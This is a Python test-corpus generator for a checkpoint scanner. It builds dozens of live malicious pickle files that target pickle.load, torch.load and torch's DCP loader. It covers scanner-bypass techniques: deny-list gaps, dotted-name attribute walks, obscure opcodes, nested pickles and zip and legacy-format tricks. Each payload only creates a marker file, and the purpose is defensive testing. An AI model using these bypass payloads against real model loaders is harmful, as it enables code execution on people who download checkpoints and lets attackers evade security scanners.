"""A corpus of pickle attacks on checkpoint loaders, each a genuine payload.

Every case writes a file (or a folder) that, loaded the way its ``trigger`` says (plain ``pickle.load``,
``torch.load(weights_only=False)``, torch's DCP loader, ...), creates the marker file it is given: that is how
the tests prove each payload is live before checking that ``ckpt`` names it and never runs it.

The techniques come from public scanner advisories and bypass reports (picklescan and modelscan advisories,
fickling's and JFrog's write-ups on scanner bypasses, Trail of Bits' "Never a dill moment", torch's
CVE-2025-32434 and the weights_only bypass reports, ...): dangerous callables the usual deny-lists miss, dotted
names that walk attributes, opcodes scanners skip (EXT, INST, OBJ, memo indirection, text protocols), nested
pickles behind an innocent-looking function, and container tricks (duplicate zip names, legacy files' five
pickles, DCP metadata and items).

``python tests/security/corpus.py OUT_DIR`` writes every case into OUT_DIR (with markers under OUT_DIR/markers)
and prints a table; the tests build them in ``tmp_path``.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# ---- a pickle writer that can name anything by reference ---------------------------------------------------------


class Ref:
    """A global written into the pickle by name (never imported here).  ``stack``: STACK_GLOBAL (protocol 4)."""

    def __init__(self, module: str, name: str, stack: bool = False):
        self.module, self.name, self.stack = module, name, stack

    def __call__(self, *args):  # the pure-Python pickler insists that a reduce function be callable
        raise TypeError("a reference, not a function")


class Call:
    """Pickles as ``func(*args)`` (REDUCE); ``func`` may be a Ref or another Call (calling its result)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)

    def __call__(self, *args):
        raise TypeError("a description, not a function")


class Built:
    """Pickles as ``cls.__new__(cls, *args)`` (NEWOBJ) followed by BUILD ``state``."""

    def __init__(self, cls: Ref, args: tuple, state):
        self.cls, self.args, self.state = cls, args, state

    def __reduce__(self):
        return (Ref("copyreg", "__newobj__"), (self.cls, *self.args), self.state)

    def __call__(self, *args):
        raise TypeError("a description, not a function")


class _Writer(pickle._Pickler):
    dispatch = pickle._Pickler.dispatch.copy()

    def _save_ref(self, obj: Ref) -> None:
        if obj.stack and self.proto >= 4:
            self.save(obj.module)
            self.save(obj.name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        self.memoize(obj)

    dispatch[Ref] = _save_ref


def dumps(obj, protocol: int = 2) -> bytes:
    buf = io.BytesIO()
    _Writer(buf, protocol).dump(obj)
    return buf.getvalue()


def system(cmd: str, module: str = "posix", stack: bool = False) -> Call:
    return Call(Ref(module, "system", stack), cmd)


def touch(marker: Path) -> str:
    return f"touch {marker}"


def exec_open(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# ---- containers ------------------------------------------------------------------------------------------------


def torch_zip(entries: list[tuple[str, bytes]]) -> bytes:
    """A zip in torch.save's layout (torch.load reads zips written by Python's zipfile)."""
    import warnings

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point of one of the cases
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


def torch_save_with(payload_pickle: bytes, top: str = "archive") -> bytes:
    return torch_zip([(f"{top}/data.pkl", payload_pickle), (f"{top}/byteorder", b"little"), (f"{top}/version", b"3\n")])


def legacy_file(parts: list[bytes]) -> bytes:
    """A pre-1.6 torch file: five pickles in a row, then (here: no) storages."""
    return b"".join(parts)


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_parts() -> list[bytes]:
    return [
        pickle.dumps(LEGACY_MAGIC, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
            protocol=2,
        ),
        pickle.dumps({"epoch": 1}, protocol=2),
        pickle.dumps([], protocol=2),
    ]


def dcp_folder(folder: Path, payload_in: str, payload_pickle: bytes) -> None:
    """A real DCP folder (written by torch), then ``.metadata`` or its bytes item replaced by a payload."""
    import warnings

    import torch
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.ones(2), "note": "x"}, storage_writer=dcp.FileSystemWriter(str(folder)), no_dist=True)
    if payload_in == "metadata":
        (folder / ".metadata").write_bytes(payload_pickle)
        return
    # the bytes item "note" is a small torch.save zip embedded in the .distcp file: swap in one of equal length
    from torch.distributed.checkpoint import FileSystemReader

    meta = FileSystemReader(str(folder)).read_metadata()
    info = next(v for k, v in meta.storage_data.items() if k.fqn == "note")
    data_file = folder / info.relative_path
    raw = bytearray(data_file.read_bytes())
    evil = torch_save_with(payload_pickle)
    meta.storage_data = {
        k: (v if k.fqn != "note" else type(v)(v.relative_path, len(raw), len(evil)))
        for k, v in meta.storage_data.items()
    }
    data_file.write_bytes(bytes(raw) + evil)
    with open(folder / ".metadata", "wb") as f:
        pickle.dump(meta, f)


# ---- the cases ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    trigger: str  # pickle | torch | dcp | zip-record:NAME | ext
    expect: str  # a fragment of what `ckpt verify` must name
    build: Callable[[Path, Path], Path]  # (folder, marker) -> the file or folder written
    source: str  # where the technique is published


def _file(suffix: str, make: Callable[[Path], bytes]) -> Callable[[Path, Path], Path]:
    def build(folder: Path, marker: Path) -> Path:
        path = folder / f"case{suffix}"
        path.write_bytes(make(marker))
        return path

    return build


def _pickle(obj_of: Callable[[Path], object], protocol: int = 2) -> Callable[[Path], bytes]:
    return lambda m: dumps(obj_of(m), protocol)


def _inner_pickle_file(folder: Path, marker: Path) -> Path:
    inner = folder / "inner.pkl"
    inner.write_bytes(dumps(system(touch(marker))))
    return inner


def _numpy_object_npy(folder: Path, marker: Path) -> Path:
    import numpy as np

    inner = folder / "inner.npy"
    np.save(inner, np.array([_RealCall(os.system, touch(marker))], dtype=object), allow_pickle=True)
    return inner


class _RealCall:
    """A payload object for the C pickler (numpy.save, torch.save): reduces to a real function."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def _nested_bytes(marker: Path) -> bytes:
    return dumps(system(touch(marker)), 3)


def _with_folder(make: Callable[[Path, Path], object], suffix: str = ".pt", protocol: int = 2):
    def build(folder: Path, marker: Path) -> Path:
        path = folder / f"case{suffix}"
        path.write_bytes(dumps(make(folder, marker), protocol))
        return path

    return build


def _text_protocol0(marker: Path) -> bytes:
    return f"cos\nsystem\n(V{touch(marker)}\ntR.".encode()


def _inst(marker: Path) -> bytes:
    return f"(V{touch(marker)}\nios\nsystem\n.".encode()


def _obj(marker: Path) -> bytes:
    return b"\x80\x02(cos\nsystem\nX" + struct.pack("<I", len(touch(marker))) + touch(marker).encode() + b"o."


def _memo_stack_global(marker: Path) -> bytes:
    cmd = touch(marker).encode()
    return (
        b"\x80\x04\x8c\x05posix\x94\x8c\x04junk\x94"
        b"00"
        b"h\x00"
        b"\x8c\x06system\x93" + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."
    )


def _computed_stack_global(marker: Path) -> bytes:
    """STACK_GLOBAL whose module name is the result of a call (''.join(['po','six'])): no string to check."""
    cmd = touch(marker).encode()
    join = Call(Ref("builtins", "str.join"), "", ["po", "six"])
    head = dumps(join, 4)[:-1]  # the join call, without STOP
    return head + b"\x8c\x06system\x93" + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."


def _ext(marker: Path) -> bytes:
    cmd = touch(marker).encode()
    return b"\x80\x02\x82\xf1X" + struct.pack("<I", len(cmd)) + cmd + b"\x85R."


def _after_benign_prefix(marker: Path) -> bytes:
    return dumps({"model": {"w": [0.0, 1.0]}, "epoch": 3, "hook": system(touch(marker))}, 2)


def _reconstructor_base(marker: Path):
    # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): a FileHandler opens (creates) a file
    return Call(
        Ref("copyreg", "_reconstructor"), Ref("logging", "FileHandler"), Ref("logging", "FileHandler"), str(marker)
    )


def _partial_kwargs(marker: Path, folder: Path):
    """functools.partial built by NEWOBJ + BUILD sets keyword arguments a REDUCE cannot pass."""
    inner = folder / "inner.pt"
    inner.write_bytes(torch_save_with(dumps(system(touch(marker)))))
    partial = Built(
        Ref("functools", "partial"),
        (Ref("torch", "load"),),
        (Ref("torch", "load"), (str(inner),), {"weights_only": False}, None),
    )
    return Call(partial)


def _legacy(index: int) -> Callable[[Path], bytes]:
    def make(marker: Path) -> bytes:
        parts = legacy_parts()
        parts[index] = dumps(system(touch(marker)))
        return legacy_file(parts)

    return make


def _dcp(payload_in: str, obj_of: Callable[[Path], object]):
    def build(folder: Path, marker: Path) -> Path:
        out = folder / "case_dcp"
        dcp_folder(out, payload_in, dumps(obj_of(marker), 4))
        return out

    return build


def _zip_case(make_entries: Callable[[Path], list[tuple[str, bytes]]]):
    return _file(".pt", lambda m: torch_zip(make_entries(m)))


BENIGN = pickle.dumps({"model": {"w": [1.0]}}, protocol=2)
SYS = "posix.system"


def cases() -> list[Case]:
    T, P, D = "torch", "pickle", "dcp"
    pfx = "prefix allowance (numpy*, torch.distributed.checkpoint*) in ckpttools before the one policy"
    deny = "deny-list gap (picklescan / modelscan advisories)"
    dotted = "dotted names resolved by attribute walk (picklescan GHSA bypasses, protocol >= 4)"
    out = [
        # -- the classics, in every protocol ------------------------------------------------------------------------
        *[
            Case(
                f"os.system protocol {p}",
                P,
                "system",
                _file(f".p{p}", _pickle(lambda m: system(touch(m), "os"), p)),
                "the textbook payload (Python docs' pickle warning)",
            )
            for p in range(0, 6)
        ],
        Case(
            "posix.system in torch.save zip",
            T,
            SYS,
            _file(".pt", lambda m: torch_save_with(dumps(system(touch(m))))),
            "Hugging Face malicious model reports (JFrog 2024)",
        ),
        Case(
            "builtins.exec",
            P,
            "exec",
            _file(".pkl", _pickle(lambda m: Call(Ref("builtins", "exec"), exec_open(m)))),
            "fickling, picklescan default deny-list",
        ),
        Case(
            "builtins.eval",
            P,
            "eval",
            _file(".pkl", _pickle(lambda m: Call(Ref("builtins", "eval"), exec_open(m)))),
            "picklescan default deny-list",
        ),
        Case(
            "__builtin__.eval (protocol 0 name mapping)",
            P,
            "eval",
            _file(".pkl", _pickle(lambda m: Call(Ref("__builtin__", "eval"), exec_open(m)), 0)),
            "fix_imports name mapping: __builtin__ -> builtins (modelscan bypass report)",
        ),
        Case(
            "builtins.open writes a file",
            P,
            "open",
            _file(".pkl", _pickle(lambda m: Call(Ref("builtins", "open"), str(m), "w"))),
            "file write without any command (JFrog scanner bypass write-up)",
        ),
        Case(
            "builtins.getattr(__import__('os'), 'system')",
            P,
            "getattr",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Call(Ref("builtins", "getattr"), Call(Ref("builtins", "__import__"), "os"), "system"), touch(m)
                    )
                ),
            ),
            "getattr chains (fickling docs)",
        ),
        Case(
            "importlib.import_module + getattr",
            P,
            "import_module",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Call(Ref("builtins", "getattr"), Call(Ref("importlib", "import_module"), "os"), "system"),
                        touch(m),
                    )
                ),
            ),
            "picklescan advisory",
        ),
        Case(
            "subprocess.call",
            P,
            "subprocess.call",
            _file(".pkl", _pickle(lambda m: Call(Ref("subprocess", "call"), ["touch", str(m)]))),
            "modelscan",
        ),
        Case(
            "subprocess.Popen",
            P,
            "subprocess.Popen",
            _file(".pkl", _pickle(lambda m: Call(Ref("subprocess", "Popen"), ["touch", str(m)]))),
            "modelscan",
        ),
        Case(
            "subprocess.run",
            P,
            "subprocess.run",
            _file(".pkl", _pickle(lambda m: Call(Ref("subprocess", "run"), ["touch", str(m)]))),
            "modelscan",
        ),
        Case(
            "subprocess.getoutput",
            P,
            "subprocess.getoutput",
            _file(".pkl", _pickle(lambda m: Call(Ref("subprocess", "getoutput"), touch(m)))),
            "modelscan",
        ),
        Case(
            "os.popen",
            P,
            "popen",
            _file(".pkl", _pickle(lambda m: Call(Call(Ref("os", "popen"), touch(m))))),
            "modelscan",
        ),
        Case(
            "runpy._run_code",
            P,
            "runpy",
            _file(".pkl", _pickle(lambda m: Call(Ref("runpy", "_run_code"), exec_open(m), {}))),
            "picklescan advisory GHSA (runpy)",
        ),
        Case(
            "timeit.timeit runs a statement",
            P,
            "timeit",
            _file(
                ".pkl",
                _pickle(lambda m: Call(Ref("timeit", "timeit"), exec_open(m), "pass", Ref("time", "perf_counter"), 1)),
            ),
            deny,
        ),
        Case(
            "cProfile.run runs a statement",
            P,
            "cProfile",
            _file(".pkl", _pickle(lambda m: Call(Ref("cProfile", "run"), exec_open(m)))),
            deny,
        ),
        Case(
            "code.InteractiveInterpreter.runsource (dotted)",
            P,
            "code.",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Ref("code", "InteractiveInterpreter.runsource", True),
                        Call(Ref("code", "InteractiveInterpreter")),
                        exec_open(m),
                    ),
                    4,
                ),
            ),
            dotted,
        ),
        # -- what deny-lists missed ----------------------------------------------------------------------------------
        Case(
            "pydoc.pipepager",
            P,
            "pydoc.pipepager",
            _file(".pkl", _pickle(lambda m: Call(Ref("pydoc", "pipepager"), "x", touch(m)))),
            deny + ": pydoc.pipepager",
        ),
        Case(
            "pydoc.locate then call",
            P,
            "pydoc.locate",
            _file(".pkl", _pickle(lambda m: Call(Call(Ref("pydoc", "locate"), "os.system"), touch(m)))),
            deny + ": pydoc.locate",
        ),
        Case(
            "pkgutil.resolve_name then call",
            P,
            "pkgutil",
            _file(".pkl", _pickle(lambda m: Call(Call(Ref("pkgutil", "resolve_name"), "os:system"), touch(m)))),
            deny,
        ),
        Case(
            "logging.config.dictConfig with ()",
            P,
            "dictConfig",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Ref("logging.config", "dictConfig"),
                        {"version": 1, "handlers": {"h": {"()": "posix.system", "command": touch(m)}}},
                    )
                ),
            ),
            deny + ": logging.config.dictConfig",
        ),
        Case(
            "codecs.open writes a file",
            P,
            "codecs.open",
            _file(".pkl", _pickle(lambda m: Call(Ref("codecs", "open"), str(m), "w"))),
            deny + ": codecs.open",
        ),
        Case(
            "pathlib.Path.write_text (dotted)",
            P,
            "write_text",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Ref("pathlib", "Path.write_text", True), Call(Ref("pathlib", "PosixPath"), str(m)), "x"
                    ),
                    4,
                ),
            ),
            deny + ": pathlib.Path.write_text",
        ),
        Case(
            "shutil.copyfile writes a file",
            P,
            "shutil",
            _file(".pkl", _pickle(lambda m: Call(Ref("shutil", "copyfile"), sys.executable, str(m)))),
            deny,
        ),
        Case(
            "zipfile.ZipFile creates a file",
            P,
            "zipfile",
            _file(".pkl", _pickle(lambda m: Call(Ref("zipfile", "ZipFile"), str(m), "w"))),
            deny,
        ),
        Case(
            "logging.FileHandler creates a file",
            P,
            "FileHandler",
            _file(".pkl", _pickle(lambda m: Call(Ref("logging", "FileHandler"), str(m)))),
            deny,
        ),
        Case(
            "io.FileIO creates a file",
            P,
            "FileIO",
            _file(".pkl", _pickle(lambda m: Call(Ref("io", "FileIO"), str(m), "w"))),
            deny,
        ),
        Case(
            "sqlite3.connect creates a file",
            P,
            "sqlite3",
            _file(".pkl", _pickle(lambda m: Call(Ref("sqlite3", "connect"), str(m)))),
            deny,
        ),
        Case(
            "gzip.open creates a file",
            P,
            "gzip",
            _file(".pkl", _pickle(lambda m: Call(Ref("gzip", "open"), str(m), "wb"))),
            deny,
        ),
        Case(
            "ctypes.CDLL(None).system",
            P,
            "ctypes",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Call(Ref("builtins", "getattr"), Call(Ref("ctypes", "CDLL"), None), "system"), touch(m).encode()
                    ),
                    3,
                ),
            ),
            "ctypes gadget (fickling)",
        ),
        Case(
            "operator.methodcaller",
            P,
            "operator",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Call(Ref("operator", "methodcaller"), "system", touch(m)),
                        Call(Ref("builtins", "__import__"), "os"),
                    )
                ),
            ),
            deny,
        ),
        Case(
            "torch.load via functools.partial(weights_only=False) built by BUILD",
            P,
            "torch.load",
            _with_folder(lambda f, m: _partial_kwargs(m, f), ".pkl"),
            deny + ": torch.load; functools.partial keyword state via BUILD (fickling)",
        ),
        Case(
            "torch.storage._load_from_bytes",
            P,
            "_load_from_bytes",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(Ref("torch.storage", "_load_from_bytes"), torch_save_with(dumps(system(touch(m))))),
                    3,
                ),
            ),
            deny + ": torch.storage._load_from_bytes (weights_only=False inside)",
        ),
        Case(
            "torch.utils.collect_env.run",
            P,
            "collect_env",
            _file(".pkl", _pickle(lambda m: Call(Ref("torch.utils.collect_env", "run"), touch(m)))),
            deny + ": torch.utils.collect_env.run",
        ),
        Case(
            "datapipes pickle decoder",
            P,
            "decoder",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Ref("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", _nested_bytes(m)
                    ),
                    3,
                ),
            ),
            deny + ": the datapipes pickle decoder",
        ),
        Case(
            "pickle.loads of a nested pickle",
            P,
            "pickle.loads",
            _file(".pkl", _pickle(lambda m: Call(Ref("pickle", "loads"), _nested_bytes(m)), 3)),
            "nested pickles",
        ),
        Case(
            "_pickle.loads of a nested pickle",
            P,
            "_pickle",
            _file(".pkl", _pickle(lambda m: Call(Ref("_pickle", "loads"), _nested_bytes(m)), 3)),
            "nested pickles",
        ),
        Case(
            "marshal + types.FunctionType",
            P,
            "FunctionType",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Call(
                            Ref("types", "FunctionType"),
                            Call(
                                Ref("marshal", "loads"), __import__("marshal").dumps(compile(exec_open(m), "x", "exec"))
                            ),
                            {},
                        ),
                    ),
                    3,
                ),
            ),
            "code objects through marshal (Trail of Bits)",
        ),
        Case(
            "numpy.savetxt writes a file",
            P,
            "numpy.savetxt",
            _file(".pkl", _pickle(lambda m: Call(Ref("numpy", "savetxt"), str(m), [1.0]))),
            pfx,
        ),
        Case(
            "numpy.load with allow_pickle",
            P,
            "numpy.load",
            _with_folder(lambda f, m: Call(Ref("numpy", "load"), str(_numpy_object_npy(f, m)), None, True), ".pkl"),
            pfx,
        ),
        Case(
            "numpy.memmap creates a file",
            P,
            "memmap",
            _file(".pkl", _pickle(lambda m: Call(Ref("numpy", "memmap"), str(m), "uint8", "w+", 0, (1,)))),
            pfx,
        ),
        Case(
            "numpy.lib._npyio_impl + os.system (dotted)",
            P,
            "os.system",
            _file(".pkl", _pickle(lambda m: Call(Ref("numpy.lib._npyio_impl", "os.system", True), touch(m)), 4)),
            pfx + "; " + dotted,
        ),
        Case(
            "numpy.ndarray.tofile on an allowed array (dotted)",
            P,
            "tofile",
            _file(
                ".pkl",
                _pickle(
                    lambda m: Call(
                        Ref("numpy", "ndarray.tofile", True),
                        Call(Ref("numpy._core.multiarray", "_reconstruct"), Ref("numpy", "ndarray"), (0,), b"b"),
                        str(m),
                    ),
                    4,
                ),
            ),
            pfx + "; " + dotted,
        ),
        Case(
            "posixpath + os.system (dotted)",
            P,
            "os.system",
            _file(".pkl", _pickle(lambda m: Call(Ref("posixpath", "os.system", True), touch(m)), 4)),
            dotted,
        ),
        Case(
            "torch + os.system (dotted)",
            T,
            "os.system",
            _file(".pt", lambda m: torch_save_with(dumps(Call(Ref("torch", "os.system", True), touch(m)), 4))),
            dotted,
        ),
        Case(
            "builtins + print.__self__.exec (dotted)",
            P,
            "__self__",
            _file(".pkl", _pickle(lambda m: Call(Ref("builtins", "print.__self__.exec", True), exec_open(m)), 4)),
            dotted,
        ),
        Case(
            "torch + serialization.pickle.loads (dotted)",
            P,
            "pickle.loads",
            _file(
                ".pkl", _pickle(lambda m: Call(Ref("torch", "serialization.pickle.loads", True), _nested_bytes(m)), 4)
            ),
            dotted,
        ),
        Case(
            "copyreg._reconstructor with a harmful base",
            P,
            "FileHandler",
            _file(".pkl", _pickle(_reconstructor_base)),
            "copyreg._reconstructor base.__init__ (fickling)",
        ),
        # -- opcodes scanners skip -----------------------------------------------------------------------------
        Case(
            "text protocol 0 starting with c",
            P,
            "system",
            _file(".pt", _text_protocol0),
            "protocol 0 files taken for text (modelscan bypass report)",
        ),
        Case("INST opcode", P, "system", _file(".pt", _inst), "INST (picklescan GHSA)"),
        Case("OBJ opcode", P, "system", _file(".pt", _obj), "OBJ (picklescan GHSA)"),
        Case("STACK_GLOBAL through the memo", P, SYS, _file(".pt", _memo_stack_global), "memo indirection"),
        Case(
            "STACK_GLOBAL of a computed name",
            P,
            "computed",
            _file(".pt", _computed_stack_global),
            "names built at load time (fickling)",
        ),
        Case("EXT1 extension code", "ext", "EXT1", _file(".pt", _ext), "copyreg extension registry"),
        Case("payload after benign content", P, SYS, _file(".pt", _after_benign_prefix), "scanners stopping early"),
        # -- containers ----------------------------------------------------------------------------------------------
        Case(
            "duplicate data.pkl, evil first",
            T,
            "records named",
            _zip_case(
                lambda m: [
                    ("archive/data.pkl", dumps(system(touch(m)))),
                    ("archive/data.pkl", BENIGN),
                    ("archive/version", b"3\n"),
                ]
            ),
            "zip ambiguity (JFrog / picklescan GHSA)",
        ),
        Case(
            "data.pkl under an unexpected top folder",
            T,
            SYS,
            _zip_case(lambda m: [("weights/data.pkl", dumps(system(touch(m)))), ("weights/version", b"3\n")]),
            "zip layout tricks",
        ),
        Case(
            "data.pkl with a wrong CRC",
            T,
            SYS,
            _file(".pt", lambda m: _bad_crc(torch_save_with(dumps(system(touch(m)))))),
            "torch.load ignores zip CRCs (picklescan GHSA)",
        ),
        Case(
            "extra pickle record",
            "zip-record:archive/extra/hook.pkl",
            SYS,
            _zip_case(
                lambda m: [
                    ("archive/data.pkl", BENIGN),
                    ("archive/extra/hook.pkl", dumps(system(touch(m)))),
                    ("archive/version", b"3\n"),
                ]
            ),
            "extra records loaded by other tools",
        ),
        *[
            Case(
                f"legacy file: payload in the {part} pickle",
                T,
                SYS,
                _file(".pt", _legacy(i)),
                "legacy torch files hold five pickles (modelscan)",
            )
            for i, part in enumerate(("magic number", "protocol version", "sys info", "object", "storage keys"))
        ],
        Case(
            "DCP .metadata: os.system",
            D,
            SYS,
            _dcp("metadata", lambda m: system(touch(m))),
            "torch DCP loads .metadata with pickle (CVE-2025-32434 family)",
        ),
        Case(
            "DCP .metadata: torch.distributed.checkpoint.filesystem + os.system",
            D,
            "os.system",
            _dcp(
                "metadata", lambda m: Call(Ref("torch.distributed.checkpoint.filesystem", "os.system", True), touch(m))
            ),
            pfx + "; " + dotted,
        ),
        Case(
            "DCP bytes item: os.system",
            D,
            SYS,
            _dcp("item", lambda m: system(touch(m))),
            "DCP loads bytes items with torch.load(weights_only=False)",
        ),
    ]
    return out


def _bad_crc(data: bytes) -> bytes:
    buf = bytearray(data)
    entry = buf.find(b"PK\x01\x02")  # the first central directory entry: data.pkl
    buf[entry + 16] ^= 0x01
    return bytes(buf)


# ---- the trigger: what a victim runs ------------------------------------------------------------------------------

TRIGGER_SCRIPT = r"""
import copyreg, io, pickle, sys, warnings, zipfile
warnings.simplefilter("ignore")
kind, path, out = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    if kind == "pickle":
        with open(path, "rb") as f:
            pickle.load(f)
    elif kind == "ext":
        copyreg.add_extension("posix", "system", 0xF1)  # a loader process with a registered extension
        with open(path, "rb") as f:
            pickle.load(f)
    elif kind == "torch":
        import torch
        torch.load(path, weights_only=False)
    elif kind == "dcp":
        from torch.distributed.checkpoint.format_utils import dcp_to_torch_save
        dcp_to_torch_save(path, out)
    elif kind.startswith("zip-record:"):
        pickle.loads(zipfile.ZipFile(path).read(kind.split(":", 1)[1]))
except BaseException as exc:  # the payload has run (or not) by the time loading fails
    print(f"{type(exc).__name__}: {exc}", file=sys.stderr)
"""


def main(out_dir: str) -> None:
    root = Path(out_dir)
    (root / "markers").mkdir(parents=True, exist_ok=True)
    for i, case in enumerate(cases()):
        folder = root / f"{i:02d}"
        folder.mkdir(exist_ok=True)
        path = case.build(folder, root / "markers" / f"{i:02d}")
        print(f"{i:02d}  {case.trigger:<10} {path.relative_to(root)}  {case.name}")


if __name__ == "__main__":
    main(sys.argv[1])
